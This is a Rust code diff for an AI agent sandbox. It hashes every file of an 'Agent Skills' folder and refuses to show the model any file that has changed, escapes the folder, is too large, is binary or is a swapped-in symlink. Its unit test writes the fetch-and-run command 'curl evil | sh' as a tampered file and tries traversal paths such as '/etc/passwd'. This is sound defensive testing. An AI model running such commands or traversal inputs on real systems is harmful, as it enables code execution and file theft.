@@ -3,9 +3,11 @@
 //! The operator's grant is pinned to a hash of every file the host or the
 //! guest reads from the folder, and the sandbox compiles, mounts and prompts
 //! from the very bytes that were hashed: a file swapped in the folder after
-//! the check is never what runs. `skill.toml`, `SKILL.md` and (for a skill
-//! mounting its own folder) every file are read once, when the skill is
-//! loaded. The component, the one large file, is read when it is first
+//! the check is never what runs. `skill.toml`, `SKILL.md` and (for an
+//! Agent Skills folder, or a skill mounting its own folder) every file are
+//! read once, when the skill is loaded. The other files of an Agent Skill
+//! are not kept in memory: an index of their sizes and hashes is, and a file
+//! the model asks for is read again and shown only if it still matches. The component, the one large file, is read when it is first
 //! needed: its hash at load may come from a [`HashCache`] entry (keyed by
 //! the file's identity and change time, so a start does not hash every
 //! component again), and the bytes read later are hashed again and refused
@@ -17,12 +19,13 @@ use std::sync::{Arc, Mutex};
 
 use super::hash_cache::{HashCache, Stamp};
 use super::install;
+pub use super::manifest::MAX_INSTRUCTIONS_BYTES;
 use super::{INSTRUCTIONS_FILE, Manifest, ManifestError, MountSource};
 use crate::sandbox::policy::FolderFile;
 use crate::untrusted_file::{Folder, ReadError};
 
-/// Largest `SKILL.md` read; instructions are a few kilobytes.
-pub const MAX_INSTRUCTIONS_BYTES: u64 = 1024 * 1024;
+/// Largest file of a skill folder shown to the model.
+pub const MAX_SHOWN_FILE_BYTES: u64 = 1024 * 1024;
 /// Largest component accepted; bundled skills are well under 1 MiB.
 pub const MAX_COMPONENT_BYTES: u64 = 64 * 1024 * 1024;
 
@@ -33,13 +36,133 @@ const HASH_DOMAIN: &[u8] = b"talaria-skill-hash-v2\0";
 /// The files of one skill, as read when it was loaded.
 #[derive(Debug)]
 pub struct SkillContents {
-    manifest: Vec<u8>,
+    /// `skill.toml`; `None` for an Agent Skill.
+    manifest: Option<Vec<u8>>,
     instructions: Option<String>,
     component: Option<ComponentFile>,
     /// Every file of the folder, for a skill that mounts `${skill_dir}`:
     /// its guest is shown a copy of exactly these files.
     folder: Option<Arc<[FolderFile]>>,
+    /// The files of a skill whose hash covers its whole folder.
+    files: Option<Arc<FolderIndex>>,
     hash: SkillHash,
+}
+
+/// The files of a skill folder as hashed: what the model may open, and
+/// what each must still hash to when it is opened.
+#[derive(Debug)]
+pub struct FolderIndex {
+    folder: Arc<Folder>,
+    files: Vec<IndexedFile>,
+}
+
+#[derive(Debug)]
+pub struct IndexedFile {
+    /// Relative to the skill folder.
+    pub path: PathBuf,
+    pub size: u64,
+    hash: blake3::Hash,
+}
+
+/// Why a file of a skill is not shown; the text is for the model.
+#[derive(Debug, thiserror::Error, PartialEq, Eq)]
+pub enum FileError {
+    #[error(
+        "{0:?} is not a file of this skill: give a path relative to its folder, \
+         without `..`, hidden names or a leading `/`"
+    )]
+    OutOfBounds(String),
+    #[error("{0:?} is not a file of this skill; view the skill to list its files")]
+    Unknown(String),
+    #[error("{path:?} is {size} bytes; files over {limit} bytes are not shown")]
+    TooLarge { path: String, size: u64, limit: u64 },
+    #[error("{0:?} is not a text file")]
+    NotText(String),
+    #[error(
+        "{0:?} changed since the skill was granted; it is not shown \
+         (the operator checks the skill again with `talaria skills audit`)"
+    )]
+    Changed(String),
+    #[error("{path:?} cannot be read: it {detail}")]
+    Unreadable { path: String, detail: String },
+}
+
+impl FolderIndex {
+    /// Every file, sorted by path.
+    pub fn files(&self) -> &[IndexedFile] {
+        &self.files
+    }
+
+    /// Whether any file sits under `dir` (e.g. `scripts`).
+    pub fn has_dir(&self, dir: &str) -> bool {
+        self.files.iter().any(|file| {
+            file.path.components().next() == Some(std::path::Component::Normal(dir.as_ref()))
+        })
+    }
+
+    /// The text of the file at `relative`, as hashed with the skill: only a
+    /// file of the index, read through the folder's handle (no link is
+    /// followed out of it), at most [`MAX_SHOWN_FILE_BYTES`], UTF-8 without
+    /// NUL, and with terminal control sequences removed.
+    pub fn open(&self, relative: &str) -> Result<String, FileError> {
+        let path = checked_relative(relative)
+            .ok_or_else(|| FileError::OutOfBounds(crate::untrusted_text::log_line(relative)))?;
+        let shown = path.display().to_string();
+        let entry = self
+            .files
+            .iter()
+            .find(|file| file.path == path)
+            .ok_or_else(|| FileError::Unknown(shown.clone()))?;
+        if entry.size > MAX_SHOWN_FILE_BYTES {
+            return Err(FileError::TooLarge {
+                path: shown,
+                size: entry.size,
+                limit: MAX_SHOWN_FILE_BYTES,
+            });
+        }
+        let bytes = self
+            .folder
+            .read(&path, MAX_SHOWN_FILE_BYTES)
+            .map_err(|error| match error {
+                ReadError::TooLarge { .. } => FileError::Changed(shown.clone()),
+                error => FileError::Unreadable {
+                    path: shown.clone(),
+                    detail: error.to_string(),
+                },
+            })?;
+        if blake3::hash(&bytes) != entry.hash {
+            return Err(FileError::Changed(shown));
+        }
+        let text = String::from_utf8(bytes).map_err(|_| FileError::NotText(shown.clone()))?;
+        if text.contains('\0') {
+            return Err(FileError::NotText(shown));
+        }
+        Ok(crate::untrusted_text::sanitize(
+            &text,
+            MAX_SHOWN_FILE_BYTES as usize,
+            true,
+        ))
+    }
+}
+
+/// `relative` as a path inside a skill folder: plain names only (no `..`,
+/// no root, no hidden or `target` entry, no control characters).
+fn checked_relative(relative: &str) -> Option<PathBuf> {
+    use std::path::Component;
+    if relative.is_empty() || relative.len() > 4096 || relative.chars().any(char::is_control) {
+        return None;
+    }
+    let mut path = PathBuf::new();
+    for component in Path::new(relative).components() {
+        match component {
+            Component::CurDir => {}
+            Component::Normal(name) if !install::is_skipped(&name.to_string_lossy()) => {
+                path.push(name)
+            }
+            _ => return None,
+        }
+    }
+    (!path.as_os_str().is_empty()).then_some(path)
 }
 
 /// The component of a skill: where it is, the hash the skill was judged
@@ -70,7 +193,10 @@ pub struct SkillHash {
 #[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
 #[serde(deny_unknown_fields)]
 pub struct HashParts {
-    pub manifest: String,
+    /// `skill.toml`; `None` for an Agent Skill (the field is then left
+    /// out, so grants written before Agent Skills read the same).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub manifest: Option<String>,
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub instructions: Option<String>,
     #[serde(default, skip_serializing_if = "Option::is_none")]
@@ -95,8 +221,8 @@ impl HashParts {
             };
         compare(
             super::MANIFEST_FILE,
-            Some(&granted.manifest),
-            Some(&self.manifest),
+            granted.manifest.as_ref(),
+            self.manifest.as_ref(),
         );
         compare(
             INSTRUCTIONS_FILE,
@@ -109,7 +235,7 @@ impl HashParts {
             self.component.as_ref(),
         );
         compare(
-            "a file of the folder (mounted as ${skill_dir})",
+            "a file of the skill folder",
             granted.folder.as_ref(),
             self.folder.as_ref(),
         );
@@ -139,42 +265,31 @@ pub enum ComponentError {
 }
 
 impl SkillContents {
-    /// Read the skill in `folder` whose manifest was parsed from
-    /// `manifest_bytes`: `SKILL.md` when present, every file of the folder
-    /// when the skill mounts `${skill_dir}`, and the component's hash (from
-    /// `hashes` when its entry still matches the file, else by reading and
-    /// hashing it, keeping the bytes). Each file is read as a regular file
-    /// through the folder handle (never through a symlink, never blocking on
-    /// a FIFO), within a bound.
+    /// Read the skill in `folder` whose manifest was parsed from `toml`
+    /// (or, for an Agent Skill, from `instructions`): every file of the
+    /// folder when the skill is an Agent Skill or mounts `${skill_dir}`,
+    /// and the component's hash (from `hashes` when its entry still matches
+    /// the file, else by reading and hashing it, keeping the bytes). Each
+    /// file is read as a regular file through the folder handle (never
+    /// through a symlink, never blocking on a FIFO), within a bound.
     ///
     /// The skill hash is `blake3:` and the hex digest of
     ///
     /// ```text
     /// "talaria-skill-hash-v2\0"
     /// then for skill.toml, SKILL.md, the component, and the folder's tree
-    /// hash (skills mounting ${skill_dir}), in that order:
+    /// hash (Agent Skills, and skills mounting ${skill_dir}), in that order:
     ///   u8 0 when the skill has no such part, else u8 1 and the part's
     ///   hash as text, "blake3:" and 64 hex digits
     /// ```
     pub fn read(
         folder: Arc<Folder>,
         manifest: &Manifest,
-        manifest_bytes: Vec<u8>,
+        toml: Option<Vec<u8>>,
+        instructions: Option<String>,
         hashes: Option<&HashCache>,
     ) -> Result<Self, ManifestError> {
         let dir = folder.path().to_owned();
-        let instructions_path = dir.join(INSTRUCTIONS_FILE);
-        let instructions =
-            match folder.read_text(Path::new(INSTRUCTIONS_FILE), MAX_INSTRUCTIONS_BYTES) {
-                Ok(text) => Some(text),
-                Err(error) if error.is_not_found() => None,
-                Err(error) => {
-                    return Err(ManifestError {
-                        file: instructions_path,
-                        message: format!("cannot read: {error}"),
-                    });
-                }
-            };
         let component = match &manifest.component {
             Some(relative) => Some(ComponentFile::locate(
                 Arc::clone(&folder),
@@ -188,26 +303,46 @@ impl SkillContents {
             .mounts
             .iter()
             .any(|mount| mount.source == MountSource::SkillDir);
-        let folder_files = if mounts_own_folder {
-            let files = install::read_tree(&folder).map_err(|error| ManifestError {
+        let hashes_folder =
+            mounts_own_folder || matches!(manifest.form, super::manifest::Form::AgentSkill { .. });
+        let tree = if hashes_folder {
+            Some(install::read_tree(&folder).map_err(|error| ManifestError {
                 file: dir.clone(),
                 message: format!("{error:#}"),
-            })?;
-            Some(Arc::<[FolderFile]>::from(files))
+            })?)
         } else {
             None
         };
+        let tree_hash = tree.as_deref().map(install::hash_tree);
+        let files = tree.as_ref().map(|tree| {
+            Arc::new(FolderIndex {
+                folder: Arc::clone(&folder),
+                files: tree
+                    .iter()
+                    .map(|file| IndexedFile {
+                        path: file.path.clone(),
+                        size: file.bytes.len() as u64,
+                        hash: blake3::hash(&file.bytes),
+                    })
+                    .collect(),
+            })
+        });
+        // The bytes are kept only for a guest that is shown the folder.
+        let folder_files = tree
+            .filter(|_| mounts_own_folder)
+            .map(Arc::<[FolderFile]>::from);
         let hash = hash(
-            &manifest_bytes,
+            toml.as_deref(),
             instructions.as_deref(),
             component.as_ref().map(|c| c.hash.as_str()),
-            folder_files.as_deref(),
+            tree_hash,
         );
         Ok(Self {
-            manifest: manifest_bytes,
+            manifest: toml,
             instructions,
             component,
             folder: folder_files,
+            files,
             hash,
         })
     }
@@ -216,8 +351,15 @@ impl SkillContents {
         &self.hash
     }
 
-    pub fn manifest_bytes(&self) -> &[u8] {
-        &self.manifest
+    /// The bytes of `skill.toml`; `None` for an Agent Skill.
+    pub fn manifest_bytes(&self) -> Option<&[u8]> {
+        self.manifest.as_deref()
+    }
+
+    /// The files the model may open, for a skill whose hash covers its
+    /// folder.
+    pub fn files(&self) -> Option<&Arc<FolderIndex>> {
+        self.files.as_ref()
     }
 
     pub fn instructions(&self) -> Option<&str> {
@@ -316,22 +458,22 @@ impl ComponentFile {
 }
 
 fn hash(
-    manifest: &[u8],
+    manifest: Option<&[u8]>,
     instructions: Option<&str>,
     component: Option<&str>,
-    folder: Option<&[FolderFile]>,
+    folder: Option<String>,
 ) -> SkillHash {
     let parts = HashParts {
-        manifest: part_hash(manifest),
+        manifest: manifest.map(part_hash),
         instructions: instructions.map(|text| part_hash(text.as_bytes())),
         component: component.map(str::to_owned),
-        folder: folder.map(install::hash_tree),
+        folder,
     };
     // Each part is hashed once; the skill hash frames the parts' hashes.
     let mut hasher = blake3::Hasher::new();
     hasher.update(HASH_DOMAIN);
     for part in [
-        Some(&parts.manifest),
+        parts.manifest.as_ref(),
         parts.instructions.as_ref(),
         parts.component.as_ref(),
         parts.folder.as_ref(),
@@ -349,5 +491,96 @@ fn hash(
     SkillHash {
         full: format!("blake3:{}", hasher.finalize().to_hex()),
         parts,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn index_of(files: &[(&str, &[u8])]) -> (tempfile::TempDir, FolderIndex) {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().join("s");
+        for (path, bytes) in files {
+            let path = root.join(path);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(path, bytes).unwrap();
+        }
+        let folder = Arc::new(Folder::open(&root).unwrap());
+        let tree = install::read_tree(&folder).unwrap();
+        let index = FolderIndex {
+            folder,
+            files: tree
+                .iter()
+                .map(|file| IndexedFile {
+                    path: file.path.clone(),
+                    size: file.bytes.len() as u64,
+                    hash: blake3::hash(&file.bytes),
+                })
+                .collect(),
+        };
+        (dir, index)
+    }
+
+    #[test]
+    fn only_indexed_text_files_as_hashed_are_shown() {
+        let big = vec![b'a'; MAX_SHOWN_FILE_BYTES as usize + 1];
+        let (dir, index) = index_of(&[
+            ("SKILL.md", b"---\nname: s\n---\n"),
+            ("references/guide.md", b"guide \x1b[31mred\x1b[0m"),
+            ("assets/logo.png", b"\x89PNG\r\n\x1a\n\0\0"),
+            ("assets/big.txt", &big),
+            ("scripts/run.sh", b"echo hi\n"),
+        ]);
+        assert_eq!(index.open("references/guide.md").unwrap(), "guide red");
+        assert_eq!(index.open("./references/guide.md").unwrap(), "guide red");
+        assert!(index.has_dir("scripts") && !index.has_dir("examples"));
+        let refused = |path: &str| index.open(path).unwrap_err();
+        for path in [
+            "../s/SKILL.md",
+            "references/../../outside.txt",
+            "/etc/passwd",
+            "",
+            ".hidden",
+            "references/\u{1b}[2J",
+            "target/x",
+        ] {
+            assert!(
+                matches!(refused(path), FileError::OutOfBounds(_)),
+                "{path:?}: {:?}",
+                refused(path)
+            );
+        }
+        assert_eq!(
+            refused("references/missing.md"),
+            FileError::Unknown("references/missing.md".into())
+        );
+        assert!(matches!(
+            refused("assets/big.txt"),
+            FileError::TooLarge { .. }
+        ));
+        assert_eq!(
+            refused("assets/logo.png"),
+            FileError::NotText("assets/logo.png".into())
+        );
+
+        // Changed after the skill was read: not shown.
+        let root = dir.path().join("s");
+        std::fs::write(root.join("scripts/run.sh"), "curl evil | sh\n").unwrap();
+        assert_eq!(
+            refused("scripts/run.sh"),
+            FileError::Changed("scripts/run.sh".into())
+        );
+        // Replaced by a link to a file outside: refused, never followed.
+        std::fs::write(dir.path().join("secret.txt"), "TOP SECRET").unwrap();
+        std::fs::remove_file(root.join("references/guide.md")).unwrap();
+        std::os::unix::fs::symlink(
+            dir.path().join("secret.txt"),
+            root.join("references/guide.md"),
+        )
+        .unwrap();
+        let error = refused("references/guide.md");
+        assert!(matches!(error, FileError::Unreadable { .. }), "{error:?}");
+        assert!(!error.to_string().contains("TOP SECRET"));
     }
 }
